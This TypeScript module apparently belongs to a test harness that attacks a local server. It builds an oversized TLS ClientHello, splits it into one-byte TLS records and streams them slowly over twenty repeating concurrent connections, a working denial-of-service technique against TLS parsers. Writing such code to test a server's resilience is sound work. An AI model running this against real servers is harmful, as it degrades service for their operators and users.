/** A long ClientHello in records of TLS with one byte each, in small segments; twenty connections at a time, over and over. */
import { once } from 'node:events';
import { connect, createServer } from 'node:net';
import type { AddressInfo, Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';
import { FROM } from './attack.ts';
import type { Attack } from './attack.ts';

const AT_ONCE = 20;
const SEGMENT_BYTES = 600;
/** RFC 8446, 5.1: type handshake, version, length. */
const RECORD_HEADER = [0x16, 0x03, 0x01, 0x00, 0x01];
const HEADER_BYTES = 5;

/** The handshake message that Node sends, with so many protocols that it is about 2.5 kB long. */
export async function clientHello(): Promise<Buffer> {
  const server = createServer().listen(0, '127.0.0.1');
  await once(server, 'listening');
  const ALPNProtocols = Array.from({ length: 180 }, (_unused, index) => `protocol-${index}`);
  const client = connectTls({ host: '127.0.0.1', port: (server.address() as AddressInfo).port, ALPNProtocols });
  client.on('error', () => undefined);
  const [socket] = (await once(server, 'connection')) as [Socket];
  let record = Buffer.alloc(0);
  while (record.length < HEADER_BYTES || record.length < HEADER_BYTES + record.readUInt16BE(3)) {
    const [chunk] = (await once(socket, 'data')) as [Buffer];
    record = Buffer.concat([record, chunk]);
  }
  client.destroy();
  socket.destroy();
  server.close();
  return record.subarray(HEADER_BYTES, HEADER_BYTES + record.readUInt16BE(3));
}

/** The same message in as many records as it has bytes. */
export function sliced(message: Buffer): Buffer {
  return Buffer.concat([...message].map((byte) => Buffer.from([...RECORD_HEADER, byte])));
}

export const slicedHellos: Attack = async ({ port }) => {
  const counts = { connected: 0, segments: 0, bytes: 0, closed: 0 };
  const wire = sliced(await clientHello());
  const open = (): void => {
    const socket = connect({ host: '127.0.0.1', port, localAddress: FROM, noDelay: true });
    let at = 0;
    const send = (): void => {
      if (socket.destroyed) return;
      if (at >= wire.length) {
        socket.end();
        return;
      }
      const segment = wire.subarray(at, at + SEGMENT_BYTES);
      at += segment.length;
      counts.segments += 1;
      counts.bytes += segment.length;
      socket.write(segment, () => setTimeout(send, 1));
    };
    socket.on('error', () => undefined);
    socket.once('connect', () => {
      counts.connected += 1;
      send();
    });
    socket.once('close', () => {
      counts.closed += 1;
      setTimeout(open, 50);
    });
    socket.resume();
  };
  for (let index = 0; index < AT_ONCE; index++) open();
  return { counts: () => counts };
};
